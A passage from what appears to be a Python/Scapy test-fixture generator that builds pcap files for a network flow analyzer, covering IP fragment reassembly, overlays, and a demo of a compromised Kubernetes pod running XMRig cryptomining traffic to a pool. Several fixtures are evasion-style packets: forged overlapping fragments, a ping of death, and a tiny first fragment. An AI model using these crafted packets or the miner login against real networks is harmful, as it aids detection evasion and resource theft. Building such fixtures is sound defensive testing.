    cap = Cap("icmp_error.pcap", LT_ETH, "ICMP errors only: ICMPv4 destination "
              "unreachable 3/3 from router 192.0.2.1 quoting a UDP packet of "
              "192.0.2.10, and ICMPv6 destination unreachable 1/4 from 2001:db8::1 "
              "quoting an IPv6 UDP packet; 2 ICMP flows, no UDP flow")
    inner = raw(IP(src=CLI4, dst="198.51.100.20", id=77, ttl=1, flags="DF")
                / UDP(sport=5000, dport=33434) / Raw(b"traceroute"))
    cap.add(0.0, eth(raw(IP(src="192.0.2.1", dst=CLI4, id=60, ttl=64, tos=0xC0)
                         / ICMP(type=3, code=3) / Raw(inner)), MAC_SERVER, MAC_CLIENT))
    inner6 = raw(IPv6(src=CLI6, dst="2001:db8:0:1::20", hlim=1)
                 / UDP(sport=5001, dport=33435) / Raw(b"traceroute"))
    cap.add(0.5, eth(raw(IPv6(src="2001:db8::1", dst=CLI6, hlim=64)
                         / ICMPv6DestUnreach(code=4) / Raw(inner6)), MAC_SERVER, MAC_CLIENT))
    return cap


def cap_bigflows():
    cap = Cap("bigflows.pcap", LT_ETH, "50 short UDP flows (request + reply) from "
              "10.244.1.10 ports 30000..30049 to 10.244.2.20:8125, all within 1 s")
    for i in range(50):
        udp_pair(cap, i * 0.019, eth_link(), "10.244.1.10", 30000 + i, "10.244.2.20", 8125,
                 req=b"m%02d:1|c" % i, rep=b"ok", ipid=1000 + i, dt=0.005)
    cap.recs.sort(key=lambda r: r.ts_us)
    return cap


def cap_fragments():
    cap = Cap("fragments.pcap", LT_ETH, "IP fragments: IPv4 UDP datagram (608 bytes "
              "of UDP) in 3 fragments in order, reassembled at the third (one flow "
              "packet of 642 bytes, the flow starts then) + unfragmented reply; IPv6 "
              "UDP datagram in 2 fragments, the last one arriving first, reassembled "
              "at the offset-0 one (one packet of 662 bytes)")
    payload = bytes(range(256)) * 2 + b"davy" * 22  # 600 bytes
    full = raw(IP(src="192.0.2.110", dst="198.51.100.110", id=0x4242, flags=0, ttl=64)
               / UDP(sport=52000, dport=7000) / Raw(payload))
    hdr, body = full[:20], full[20:]  # 608 bytes of UDP

    def frag4(off, chunk, more):
        h = bytearray(hdr)
        struct.pack_into("!H", h, 2, 20 + len(chunk))
        struct.pack_into("!H", h, 6, (0x2000 if more else 0) | (off // 8))
        struct.pack_into("!H", h, 10, 0)
        s = sum(struct.unpack("!10H", bytes(h)))
        while s >> 16:
            s = (s & 0xFFFF) + (s >> 16)
        struct.pack_into("!H", h, 10, ~s & 0xFFFF)
        return bytes(h) + chunk
    cap.add(0.0, eth(frag4(0, body[:256], True)), "frag")
    cap.add(0.0001, eth(frag4(256, body[256:512], True)), "frag")
    cap.add(0.0002, eth(frag4(512, body[512:], False)), "frag", then="flow")
    cap.add(0.01, eth(udp("198.51.100.110", 7000, "192.0.2.110", 52000, b"got it", ipid=9),
                      MAC_SERVER, MAC_CLIENT))
    full6 = raw(IPv6(src="2001:db8::110", dst="2001:db8:0:1::110", nh=17)
                / UDP(sport=52001, dport=7001) / Raw(payload))[40:]
    first, rest = full6[:304], full6[304:]

    def frag6(off, chunk, more):
        return raw(IPv6(src="2001:db8::110", dst="2001:db8:0:1::110", hlim=64)
                   / IPv6ExtHdrFragment(nh=17, offset=off // 8, m=int(more), id=0xF00D)
                   / Raw(chunk))
    cap.add(0.1, eth(frag6(304, rest, False)), "frag")
    cap.add(0.1001, eth(frag6(0, first, True)), "frag", then="flow")
    cap.defrag_expect = {"reassembled": 2}
    return cap


# --------------------------------------------------------------------------
# Reassembly captures. ip4_frag / ip6_frag cut a packet built whole (so the
# transport checksum is that of the reassembled datagram) into fragments.

def ip4_frag(l3, off, n, more=None, data=None):
    """One fragment of the IPv4 packet l3: its header (options as in l3; DF
    cleared, MF and the offset set, total length and checksum redone) and
    the n data bytes from off, or `data` (a forged fragment). more defaults
    to whether l3 has data after it."""
    ihl = (l3[0] & 15) * 4
    body = l3[ihl:]
    chunk = body[off:off + n] if data is None else data
    assert len(chunk) == n and off % 8 == 0
    if more is None:
        more = off + n < len(body)
    h = bytearray(l3[:ihl])
    struct.pack_into("!HHHH", h, 2, ihl + n, u16(l3, 4), (0x2000 if more else 0) | off // 8,
                     u16(l3, 8))
    struct.pack_into("!H", h, 10, 0)
    struct.pack_into("!H", h, 10, inet_csum(bytes(h)))
    return bytes(h) + chunk


def ip4_no_options(l3):
    """The IPv4 packet l3 with its options removed (what the fragments after
    the first carry when the options are not of the copied kind)."""
    ihl = (l3[0] & 15) * 4
    h = bytearray(l3[:20])
    h[0] = 0x45
    struct.pack_into("!H", h, 2, len(l3) - ihl + 20)
    return bytes(h) + l3[ihl:]


def ip6_frag(l3, off, n, ident, unfrag=40, more=None, data=None):
    """One fragment of the IPv6 packet l3 whose fragmentable part starts at
    byte `unfrag` (40: right after the fixed header; more: after the
    extension headers that stay in every fragment): the unfragmentable part,
    a fragment header, the n data bytes from off (or `data`)."""
    nh_off, p = 6, 40
    while p < unfrag:  # the header that will name the fragment header
        nh_off, p = p, p + (l3[p + 1] + 1) * 8
    assert p == unfrag and off % 8 == 0
    body = l3[unfrag:]
    chunk = body[off:off + n] if data is None else data
    assert len(chunk) == n
    if more is None:
        more = off + n < len(body)
    h = bytearray(l3[:unfrag])
    nxt, h[nh_off] = h[nh_off], 44
    struct.pack_into("!H", h, 4, unfrag - 40 + 8 + n)
    return bytes(h) + struct.pack("!BBHI", nxt, 0, off | int(more), ident) + chunk


def eth_dir(l3, fc, tags=()):
    return eth(l3, *(MAC_CLIENT, MAC_SERVER) if fc else (MAC_SERVER, MAC_CLIENT), tags=tags)


def l4_len(l3):
    """Bytes after the IPv4 header / IPv6 fixed header."""
    return len(l3) - ((l3[0] & 15) * 4 if l3[0] >> 4 == 4 else 40)


def cap_frag_ipv4():
    cap = Cap("frag_ipv4.pcap", LT_ETH, "IPv4 reassembly: UDP datagram in 3 fragments in "
              "order + unfragmented reply; UDP datagram in 3 fragments out of order (last "
              "first, then offset 0, then the middle one completes it) whose offset-0 "
              "fragment alone carries a Record Route option (IHL 9: the reassembled packet "
              "has that header); TCP flow whose data segments are fragmented both ways (2 "
              "fragments from the client, 3 from the server, the last one before the "
              "middle one): one flow packet each, 5 + 3 packets in all; TCP SYN whose "
              "offset-0 fragment holds 8 bytes (half a TCP header: tiny_first), "
              "reassembled, then SYN-ACK and ACK; the same src/dst/id/protocol under VLAN "
              "10 and VLAN 20, fragments interleaved: two datagrams, two flows; a datagram "
              "whose middle fragment never comes: no flow")
    link = eth_dir
    # 1. in order
    a, b = "192.0.2.120", "198.51.100.120"
    d = udp(a, 52100, b, 7100, bytes(range(256)) * 2 + b"davy" * 22, ipid=0x5101)  # 608 bytes of UDP
    cap.add(0.0, link(ip4_frag(d, 0, 256), True), "frag")
    cap.add(0.0001, link(ip4_frag(d, 256, 256), True), "frag")
    cap.add(0.0002, link(ip4_frag(d, 512, 96), True), "frag", then="flow")
    cap.add(0.01, link(udp(b, 7100, a, 52100, b"got it", ipid=0x6101), False))
    # 2. out of order; options in the offset-0 fragment only (RR is not copied)
    a, b = "192.0.2.121", "198.51.100.121"
    d = udp(a, 52101, b, 7101, b"out of order " * 30, ipid=0x5102,
            options=[IPOption_RR(pointer=4, routers=["0.0.0.0"] * 3)])  # 398 bytes of UDP
    assert (d[0] & 15) == 9
    rest = ip4_no_options(d)
    cap.add(0.1, link(ip4_frag(rest, 272, 126), True), "frag")
    cap.add(0.1001, link(ip4_frag(d, 0, 136), True), "frag")
    cap.add(0.1002, link(ip4_frag(rest, 136, 136), True), "frag", then="flow")
    # 3. TCP, data fragmented both ways
    c = Tcp("192.0.2.122", 45200, "198.51.100.122", 80, 0x51000, 0x52000, cipid=0x5200,
            sipid=0x5300)
    cap.add(0.2, link(c.syn(), True))
    cap.add(0.201, link(c.synack(), False))
    cap.add(0.2011, link(c.ack(True), True))
    req = c.data(True, HTTP_REQ)
    n = l4_len(req)
    cap.add(0.2012, link(ip4_frag(req, 0, 56), True), "frag")
    cap.add(0.2013, link(ip4_frag(req, 56, n - 56), True), "frag", then="flow")
    resp = c.data(False, HTTP_RESP)
    n = l4_len(resp)
    cap.add(0.22, link(ip4_frag(resp, 0, 96), False), "frag")
    cap.add(0.2201, link(ip4_frag(resp, 192, n - 192), False), "frag")
    cap.add(0.2202, link(ip4_frag(resp, 96, 96), False), "frag", then="flow")
    cap.add(0.23, link(c.fin(True), True))
    cap.add(0.24, link(c.fin(False), False))
    cap.add(0.2401, link(c.ack(True), True))
    # 4. tiny first fragment: 8 bytes of a 32-byte TCP SYN header
    c = Tcp("192.0.2.123", 45201, "198.51.100.123", 443, 0x53000, 0x54000, cipid=0x5400,
            sipid=0x5500)
    syn = c.syn()
    assert l4_len(syn) == 32
    cap.add(0.3, link(ip4_frag(syn, 0, 8), True), "frag")
    cap.add(0.3001, link(ip4_frag(syn, 8, 24), True), "frag", then="flow")
    cap.add(0.301, link(c.synack(), False))
    cap.add(0.3011, link(c.ack(True), True))
    # 5. one src/dst/id/protocol, two VLANs: two datagrams
    a, b = "192.0.2.124", "198.51.100.124"
    d10 = udp(a, 52104, b, 7104, b"vlan ten " * 5, ipid=0x5104)       # 53 bytes of UDP
    d20 = udp(a, 52104, b, 7104, b"VLAN TWENTY " * 4, ipid=0x5104)    # 56 bytes of UDP
    v10, v20 = [(TPID_8021Q, 10, 0)], [(TPID_8021Q, 20, 0)]
    cap.add(0.4, link(ip4_frag(d10, 0, 24), True, v10), "frag")
    cap.add(0.4001, link(ip4_frag(d20, 0, 24), True, v20), "frag")
    cap.add(0.4002, link(ip4_frag(d10, 24, 29), True, v10), "frag", then="flow")
    cap.add(0.4003, link(ip4_frag(d20, 24, 32), True, v20), "frag", then="flow")
    # 6. incomplete: the middle fragment never comes
    a, b = "192.0.2.125", "198.51.100.125"
    d = udp(a, 52105, b, 7105, bytes(300), ipid=0x5105)  # 308 bytes of UDP
    cap.add(0.5, link(ip4_frag(d, 0, 104), True), "frag")
    cap.add(0.5001, link(ip4_frag(d, 208, 100), True), "frag")
    cap.defrag_expect = {"reassembled": 7, "tiny_first": 1, "active": 1}
    return cap


def cap_frag_ipv6():
    cap = Cap("frag_ipv6.pcap", LT_ETH, "IPv6 reassembly, a hop-by-hop header (router "
              "alert) before the fragment header in every fragment (the unfragmentable "
              "part, kept in the reassembled packet; the fragment header is removed): UDP "
              "datagram in 3 fragments in order + unfragmented reply; UDP datagram in 3 "
              "fragments out of order (last, offset 0, middle) whose fragmentable part "
              "starts with a destination options header; TCP flow (hop-by-hop on every "
              "packet) whose data segments are fragmented both ways (2 + 3 fragments): "
              "5 + 3 flow packets; TCP SYN without extension headers whose offset-0 "
              "fragment holds 8 bytes (tiny_first), then SYN-ACK and ACK; UDP in an atomic "
              "fragment (offset 0, M 0: a normal packet, not a fragment) + reply; a "
              "datagram whose middle fragment never comes: no flow")
    link = eth_dir
    hbh = lambda fc=True: IPv6ExtHdrHopByHop(options=[RouterAlert(value=0)])  # noqa: E731
    # 1. in order
    a, b = "2001:db8::120", "2001:db8:0:1::120"
    d = udp(a, 52200, b, 7200, bytes(range(256)) * 2 + b"davy" * 22, ext=hbh())
    assert len(d) == 40 + 8 + 608
    cap.add(0.0, link(ip6_frag(d, 0, 256, 0x62000001, 48), True), "frag")
    cap.add(0.0001, link(ip6_frag(d, 256, 256, 0x62000001, 48), True), "frag")
    cap.add(0.0002, link(ip6_frag(d, 512, 96, 0x62000001, 48), True), "frag", then="flow")
    cap.add(0.01, link(udp(b, 7200, a, 52200, b"got it"), False))
    # 2. out of order, a destination options header in the fragmentable part
    a, b = "2001:db8::121", "2001:db8:0:1::121"
    d = udp(a, 52201, b, 7201, b"out of order " * 30,
            ext=hbh() / IPv6ExtHdrDestOpt(options=[PadN(optdata=b"\x00\x00\x00\x00")]))
    n = len(d) - 48
    assert n == 8 + 398
    cap.add(0.1, link(ip6_frag(d, 272, n - 272, 0x62000002, 48), True), "frag")
    cap.add(0.1001, link(ip6_frag(d, 0, 136, 0x62000002, 48), True), "frag")
    cap.add(0.1002, link(ip6_frag(d, 136, 136, 0x62000002, 48), True), "frag", then="flow")
    # 3. TCP, data fragmented both ways
    c = Tcp("2001:db8::122", 45300, "2001:db8:0:1::122", 80, 0x61000, 0x62000, ext=hbh)
    cap.add(0.2, link(c.syn(), True))
    cap.add(0.201, link(c.synack(), False))
    cap.add(0.2011, link(c.ack(True), True))
    req = c.data(True, HTTP_REQ)
    n = len(req) - 48
    cap.add(0.2012, link(ip6_frag(req, 0, 56, 0x62000003, 48), True), "frag")
    cap.add(0.2013, link(ip6_frag(req, 56, n - 56, 0x62000003, 48), True), "frag", then="flow")
    resp = c.data(False, HTTP_RESP)
    n = len(resp) - 48
    cap.add(0.22, link(ip6_frag(resp, 0, 96, 0x62000004, 48), False), "frag")
    cap.add(0.2201, link(ip6_frag(resp, 192, n - 192, 0x62000004, 48), False), "frag")
    cap.add(0.2202, link(ip6_frag(resp, 96, 96, 0x62000004, 48), False), "frag", then="flow")
    cap.add(0.23, link(c.fin(True), True))
    cap.add(0.24, link(c.fin(False), False))
    cap.add(0.2401, link(c.ack(True), True))
    # 4. tiny first fragment
    c = Tcp("2001:db8::123", 45301, "2001:db8:0:1::123", 443, 0x63000, 0x64000)
    syn = c.syn()
    assert len(syn) == 40 + 32
    cap.add(0.3, link(ip6_frag(syn, 0, 8, 0x62000005), True), "frag")
    cap.add(0.3001, link(ip6_frag(syn, 8, 24, 0x62000005), True), "frag", then="flow")
    cap.add(0.301, link(c.synack(), False))
    cap.add(0.3011, link(c.ack(True), True))
    # 5. atomic fragment: a normal packet
    a, b = "2001:db8::124", "2001:db8:0:1::124"
    cap.add(0.4, link(udp(a, 52204, b, 7204, b"atomic", ext=IPv6ExtHdrFragment(
        offset=0, m=0, id=0x62000006)), True))
    cap.add(0.4001, link(udp(b, 7204, a, 52204, b"atomic reply"), False))
    # 6. incomplete
    a, b = "2001:db8::125", "2001:db8:0:1::125"
    d = udp(a, 52205, b, 7205, bytes(300), ext=hbh())
    cap.add(0.5, link(ip6_frag(d, 0, 104, 0x62000007, 48), True), "frag")
    cap.add(0.5001, link(ip6_frag(d, 208, 100, 0x62000007, 48), True), "frag")
    cap.defrag_expect = {"reassembled": 5, "tiny_first": 1, "active": 1}
    return cap


def cap_frag_overlap():
    cap = Cap("frag_overlap.pcap", LT_ETH, "IPv4 reassembly policy, one datagram each: "
              "(a) a fragment overlapping one 8-byte block with the same bytes (overlaps; "
              "reassembled, 82 bytes as without the overlap); (b) a forged fragment at "
              "offset 0 rewriting the UDP destination port 7301 to 7999 (overlap conflict; "
              "first data wins: the flow is to port 7301); (c) ICMP echo whose last "
              "fragment at offset 65520 would make it 65,564 bytes (too_big: dropped, no "
              "flow); (d) two last fragments ending at 48 and at 56 (inconsistent: "
              "dropped; its middle fragment, coming after, starts a new datagram that never "
              "completes); (e) a last fragment ending at 32, then a fragment with data up "
              "to 40 (inconsistent, dropped; the offset-0 fragment after it is held); (f) an "
              "offset-0 fragment of 32 bytes, then a last fragment ending at 28, inside the "
              "first one's last block (data past the end: inconsistent, dropped, no flow); "
              "(g) a non-last fragment of 12 bytes (not a multiple of 8: dropped alone, "
              "inconsistent) in a datagram that completes with the right fragment")
    link = eth_dir
    t = 0.0

    def add(l3, then=None, note=None):
        nonlocal t
        cap.add(t, link(l3, True), "frag", then=then, note=note)
        t += 0.0001

    def udp40(last_octet, port, ipid):
        return udp("192.0.2.%d" % last_octet, 52170 + last_octet, "198.51.100.%d" % last_octet,
                   port, (b"davy reassembly overlap test %03d" % last_octet).ljust(40, b"."),
                   ipid=ipid)
    # (a) identical overlap: [0,24) [16,32) [32,48)
    d = udp40(130, 7300, 0x5301)
    assert l4_len(d) == 48
    add(ip4_frag(d, 0, 24))
    add(ip4_frag(d, 16, 16), note="overlaps block 2 with the same bytes")
    add(ip4_frag(d, 32, 16), "flow")
    # (b) conflicting overlap on the UDP header
    t = 0.1
    d = udp40(131, 7301, 0x5302)
    forged = bytearray(d[20:28])
    struct.pack_into("!H", forged, 2, 7999)
    add(ip4_frag(d, 0, 24))
    add(ip4_frag(d, 0, 8, more=True, data=bytes(forged)),
        note="forged UDP header, destination port 7999")
    add(ip4_frag(d, 24, 24), "flow")
    # (c) too big (ping of death)
    t = 0.2
    d = raw(IP(src="192.0.2.132", dst="198.51.100.132", id=0x5303, ttl=64, flags=0)
            / ICMP(type=8, id=0x5303, seq=1) / Raw(b"ping of death, davy test".ljust(40, b".")))
    assert l4_len(d) == 48
    add(ip4_frag(d, 0, 16))
    add(ip4_frag(d, 65520, 24, more=False, data=b"X" * 24), "dropped",
        note="offset 65520 + 24 bytes + 20-byte header > 65535")
    # (d) two different ends
    t = 0.3
    d = udp40(133, 7303, 0x5304)
    add(ip4_frag(d, 0, 16))
    add(ip4_frag(d, 40, 8, more=False))
    add(ip4_frag(d, 48, 8, more=False, data=b"2nd end!"), "dropped", note="a second last fragment")
    add(ip4_frag(d, 16, 24), note="the rest of the first datagram: a new one")
    # (e) data past a known end
    t = 0.4
    d = udp("192.0.2.134", 52304, "198.51.100.134", 7304, b"ends at 32 bytes of UDP.", ipid=0x5305)
    assert l4_len(d) == 32
    add(ip4_frag(d, 24, 8))
    add(ip4_frag(d, 16, 24, more=True, data=d[36:52] + b"past end"), "dropped",
        note="data up to 40, past the end 32")
    add(ip4_frag(d, 0, 16), note="offset 0 after the drop: a new datagram")
    # (f) data held past the end, inside the last 8-byte block
    t = 0.5
    d = udp("192.0.2.135", 52305, "198.51.100.135", 7305, b"twenty bytes of data", ipid=0x5306)
    assert l4_len(d) == 28
    add(ip4_frag(d, 0, 32, more=True, data=d[20:] + b"JUNK"), note="32 bytes: 4 past the end")
    add(ip4_frag(d, 16, 12), "dropped", note="last fragment: end 28")
    # (g) a non-last fragment of 12 bytes, dropped alone
    t = 0.6
    d = udp40(136, 7306, 0x5307)
    add(ip4_frag(d, 0, 16))
    add(ip4_frag(d, 16, 12, more=True, data=b"twelve bytes"), "dropped",
        note="non-last fragment of 12 bytes")
    add(ip4_frag(d, 16, 16))
    add(ip4_frag(d, 32, 16), "flow")
    cap.defrag_expect = {"reassembled": 3, "overlaps": 2, "overlap_conflicts": 1, "too_big": 1,
                         "inconsistent": 4, "active": 2}
    return cap


def cap_frag_timeout():
    cap = Cap("frag_timeout.pcap", LT_ETH, "reassembly timeout (60 s from the first "
              "fragment): datagram A's first fragment at 0 s; datagram B's first fragment "
              "at 0.5 s and its last at 59.5 s (59 s: reassembled, a flow starting at "
              "59.5 s); A's last fragment at 61 s: A timed out (timeouts 1, no flow), the "
              "late fragment starts a new datagram, held at end of input")
    link = eth_dir
    a = udp("192.0.2.140", 52400, "198.51.100.140", 7400, b"timed out: this never completes",
            ipid=0x5401)
    b = udp("192.0.2.141", 52401, "198.51.100.141", 7401, b"complete after 59 seconds!!!",
            ipid=0x5402)
    cap.add(0.0, link(ip4_frag(a, 0, 24), True), "frag")
    cap.add(0.5, link(ip4_frag(b, 0, 24), True), "frag")
    cap.add(59.5, link(ip4_frag(b, 24, l4_len(b) - 24), True), "frag", then="flow")
    cap.add(61.0, link(ip4_frag(a, 24, l4_len(a) - 24), True), "frag",
            note="61 s after its first fragment")
    cap.defrag_expect = {"reassembled": 1, "timeouts": 1, "active": 1}
    return cap


def cap_snaplen():
    cap = Cap("snaplen.pcap", LT_ETH, "snaplen 96: HTTP flow whose large response "
              "is captured only up to 96 bytes (caplen < wire len but all headers "
              "present): attributed normally, bytes count the wire length",
              snaplen=96)
    c = Tcp(CLI4, 49170, SRV4, 80, 0x1500, 0x9500)
    big = b"HTTP/1.1 200 OK\r\nContent-Length: 1200\r\n\r\n" + b"A" * 1200
    for dt, fc, l3 in [(0.0, True, c.syn()), (0.02, False, c.synack()),
                       (0.0201, True, c.ack(True)), (0.0203, True, c.data(True, HTTP_REQ)),
                       (0.045, False, c.data(False, big)), (0.0452, True, c.ack(True)),
                       (0.05, False, c.fin(False)), (0.0501, True, c.fin(True)),
                       (0.07, False, c.ack(False))]:
        frame = eth(l3, *(MAC_CLIENT, MAC_SERVER) if fc else (MAC_SERVER, MAC_CLIENT))
        cap.add(dt, frame, caplen=min(96, len(frame)))
    return cap


def cap_unsupported():
    cap = Cap("unsupported.pcap", LT_ETH, "frames davy counts as unsupported, not "
              "errors: ARP request/reply, an 802.3 length frame (STP BPDU over "
              "LLC), LLDP (ethertype 0x88cc); plus one good UDP flow")
    arp = lambda op, sm, sip, tm, tip: struct.pack(  # noqa: E731
        "!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, op, sm, ipaddress.ip_address(sip).packed,
        tm, ipaddress.ip_address(tip).packed)
    cap.add(0.0, eth(arp(1, MAC_CLIENT, "192.0.2.10", b"\0" * 6, "192.0.2.1"),
                     dst=b"\xff" * 6, ethertype=ETH_ARP), "unsupported")
    cap.add(0.001, eth(arp(2, MAC_SERVER, "192.0.2.1", MAC_CLIENT, "192.0.2.10"),
                       MAC_SERVER, MAC_CLIENT, ethertype=ETH_ARP), "unsupported")
    bridge = struct.pack("!H", 0x8000) + MAC_SERVER
    bpdu = (struct.pack("!HBBB", 0, 0, 0, 0) + bridge + struct.pack("!I", 0) + bridge
            + struct.pack("!HHHHH", 0x8001, 0, 20 * 256, 2 * 256, 15 * 256))
    llc = b"\x42\x42\x03" + bpdu
    cap.add(0.5, eth(llc, MAC_SERVER, bytes.fromhex("0180c2000000"), ethertype=len(llc)),
            "unsupported")
    tlv = lambda typ, val: struct.pack("!H", (typ << 9) | len(val)) + val  # noqa: E731
    lldp = tlv(1, b"\x04" + MAC_SERVER) + tlv(2, b"\x05eth0") + tlv(3, struct.pack("!H", 120)) \
        + tlv(0, b"")
    cap.add(0.6, eth(lldp, MAC_SERVER, bytes.fromhex("0180c200000e"), ethertype=0x88CC),
            "unsupported")
    udp_pair(cap, 1.0, eth_link(), "192.0.2.120", 53120, "198.51.100.120", 53,
             req=dns_query(0x1212, "example.org", "A"),
             rep=dns_answer(0x1212, "example.org", "A", "203.0.113.120"), ipid=50)
    return cap


def cap_empty():
    return Cap("empty.pcap", LT_ETH, "a valid pcap global header and no packets")


def tls_client_hello(sni):
    """A deterministic TLS 1.2 ClientHello carrying `sni` (None: no server
    name extension)."""
    from scapy.layers.tls.all import (TLS, TLSClientHello, TLS_Ext_ServerName, ServerName,
                                      TLS_Ext_SupportedGroups, TLS_Ext_SupportedPointFormat,
                                      TLS_Ext_SignatureAlgorithms)
    sn = [TLS_Ext_ServerName(servernames=[ServerName(servername=sni.encode())])] if sni else []
    ch = TLSClientHello(version=0x0303, gmt_unix_time=0x65920080, random_bytes=bytes(range(28)),
                        sid=b"", ciphers=[0x1301, 0x1302, 0xc02f, 0xc030], comp=[0],
                        ext=sn + [TLS_Ext_SupportedGroups(groups=[29, 23]),
                                  TLS_Ext_SupportedPointFormat(ecpl=[0]),
                                  TLS_Ext_SignatureAlgorithms(sig_algs=[0x0403, 0x0804])])
    return raw(TLS(msg=[ch], version=0x0301))


# a RandomX hashing blob is 76 bytes: 152 hex digits (the last byte varies here)
XMRIG_BLOB = b"0e0ef0a4c8a606" + b"5f" * 68 + b"00000000"

XMRIG_LOGIN = (b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":'
               b'"44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",'
               b'"pass":"x","agent":"XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0",'
               b'"rigid":"","algo":["rx/0","cn/r"]}}\n')
XMRIG_RESULT = (b'{"id":1,"jsonrpc":"2.0","error":null,"result":{"id":"d4e3f2a1","job":'
                b'{"blob":"' + XMRIG_BLOB + b'00","job_id":"job-1","target":"b88d0600","algo":"rx/0",'
                b'"height":3012345,"seed_hash":"00"},"extensions":["algo","nicehash","connect","tls","keepalive"],'
                b'"status":"OK"}}\n')
XMRIG_JOB = (b'{"jsonrpc":"2.0","method":"job","params":{"blob":"' + XMRIG_BLOB + b'01","job_id":"job-2",'
             b'"target":"b88d0600","algo":"rx/0","height":3012346,"seed_hash":"00"}}\n')
XMRIG_SUBMIT = (b'{"id":2,"jsonrpc":"2.0","method":"submit","params":{"id":"d4e3f2a1","job_id":"job-2",'
                b'"nonce":"2d000000","result":"00aa","algo":"rx/0"}}\n')
XMRIG_OK = b'{"id":2,"jsonrpc":"2.0","error":null,"result":{"status":"OK"}}\n'


def cap_demo():
    """What `make demo` replays: a node's view of a compromised pod and two
    ordinary ones. Pod 10.244.1.23 resolves a mining pool and logs in to it
    with XMRig over cleartext Stratum on port 3333; pod 10.244.1.40 fetches
    a page over HTTP and opens a TLS session; the node itself resolves a
    name over a tagged VLAN."""
    cap = Cap("demo.pcap", LT_ETH, "demo for `make demo`: a pod resolves pool.supportxmr.com "
              "and speaks XMRig Stratum (login, job, submit) to 203.0.113.77:3333; another "
              "pod does HTTP and a TLS ClientHello with SNI www.example.com; a DNS query on "
              "VLAN 20")
    miner, pool = "10.244.1.23", "203.0.113.77"
    cap.add(0.0, eth(udp(miner, 40001, "10.96.0.10", 53,
                         dns_query(0x7001, "pool.supportxmr.com", "A"), ipid=500)))
    cap.add(0.004, eth(udp("10.96.0.10", 53, miner, 40001,
                           dns_answer(0x7001, "pool.supportxmr.com", "A", pool), ipid=900),
                       MAC_SERVER, MAC_CLIENT))
    c = Tcp(miner, 40002, pool, 3333, 0x11000, 0x22000)
    link = eth_link()
    for dt, fc, l3 in [(0.010, True, c.syn()), (0.060, False, c.synack()),
                       (0.0601, True, c.ack(True)), (0.0605, True, c.data(True, XMRIG_LOGIN)),
                       (0.110, False, c.data(False, XMRIG_RESULT)), (0.1101, True, c.ack(True)),
                       (30.0, False, c.data(False, XMRIG_JOB)), (30.0001, True, c.ack(True)),
                       (41.5, True, c.data(True, XMRIG_SUBMIT)), (41.55, False, c.data(False, XMRIG_OK)),
                       (41.5501, True, c.ack(True))]:
        cap.add(dt, link(l3, fc))
    http_flow(cap, 2.0, link, cli="10.244.1.40", cport=51000)
    t = Tcp("10.244.1.40", 51001, SRV4, 443, 0x31000, 0x42000)
    for dt, fc, l3 in [(3.0, True, t.syn()), (3.02, False, t.synack()), (3.0201, True, t.ack(True)),
                       (3.0202, True, t.data(True, tls_client_hello("www.example.com"))),
                       (3.04, False, t.ack(False)), (3.5, True, t.fin(True)),
                       (3.52, False, t.fin(False)), (3.5201, True, t.ack(True))]:
        cap.add(dt, link(l3, fc))
    udp_pair(cap, 5.0, eth_link(tags=[(0x8100, 20, 0)]), "192.0.2.5", 40100, "192.0.2.53", 53,
             req=dns_query(0x7002, "kubernetes.default.svc.cluster.local", "A"),
             rep=dns_answer(0x7002, "kubernetes.default.svc.cluster.local", "A", "10.96.0.1"),
             ipid=700, dt=0.002)
    cap.recs.sort(key=lambda r: r.ts_us)  # stable: same-time packets keep their order
    return cap


# --------------------------------------------------------------------------
# Overlays: VXLAN, Geneve, GRE (+ERSPAN, GRE-in-UDP), IP-in-IP, MPLS.
#
# Outer "nodes" are 192.0.2.x (2001:db8:ffff::/48 for IPv6 outers), pods
# 10.244.x.y with Kubernetes-style MACs 0a:58:<IPv4 address>. Outer UDP
# source ports are hash-like (49152 + crc32 % 16384, distinct per packet in
# vxlan.pcap and vxlan_frag.pcap) so that nothing can key a flow on them.

def mac_of(ip, prefix=b"\x0a\x58"):
    """Kubernetes-style MAC from the low 32 bits of an address."""
    return prefix + ipaddress.ip_address(ip).packed[-4:]


def node_mac(ip):
    return mac_of(ip, b"\x02\x00")


def hash_port(*parts):
    """A deterministic, hash-like ephemeral UDP source port."""
    return 49152 + zlib.crc32(repr(parts).encode()) % 16384


def inet_csum(b):
    if len(b) % 2:
        b += b"\x00"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def ip_carry(src, dst, proto, payload, ipid=0, ttl=64):
    """An outer IPv4/IPv6 header (protocol / next header `proto`) around
    payload bytes."""
    h = ip_hdr(src, dst, ipid, ttl=ttl)
    if ":" in src:
        h.nh = proto
    else:
        h.proto = proto
    return raw(h / Raw(payload))


def udp_carry(src, sport, dst, dport, payload, ipid=0, csum=True):
    """Outer IP/UDP around payload bytes; csum=False writes a zero UDP
    checksum (what Linux VXLAN does over IPv4)."""
    u = UDP(sport=sport, dport=dport) if csum else UDP(sport=sport, dport=dport, chksum=0)
    return raw(ip_hdr(src, dst, ipid) / u / Raw(payload))


def vxlan_hdr(vni, flags=0x08):
    return struct.pack("!B3xI", flags, vni << 8)


def geneve_opt(cls, typ, data):
    assert len(data) % 4 == 0
    return struct.pack("!HBB", cls, typ, len(data) // 4) + data


def geneve_hdr(vni, ptype, opts=b"", optlen=None, crit=False):
    """crit: the C bit, which RFC 8926 requires when an option is critical
    (high bit of its type)."""
    assert len(opts) % 4 == 0
    words = len(opts) // 4 if optlen is None else optlen
    return struct.pack("!BBHI", words, 0x40 if crit else 0, ptype, vni << 8) + opts


def gre(ptype, payload, key=None, seq=None, csum=False, flags=0):
    """GRE header (RFC 2784/2890) + payload. The checksum, when present,
    covers the GRE header and payload."""
    fv = flags | (GRE_C if csum else 0) | (GRE_K if key is not None else 0) \
        | (GRE_S if seq is not None else 0)
    opt = b""
    if key is not None:
        opt += struct.pack("!I", key)
    if seq is not None:
        opt += struct.pack("!I", seq)
    if not csum:
        return struct.pack("!HH", fv, ptype) + opt + payload
    c = inet_csum(struct.pack("!HHHH", fv, ptype, 0, 0) + opt + payload)
    return struct.pack("!HHHH", fv, ptype, c, 0) + opt + payload


def erspan2(session, vlan=0, cos=0, en=0, t=0, index=0):
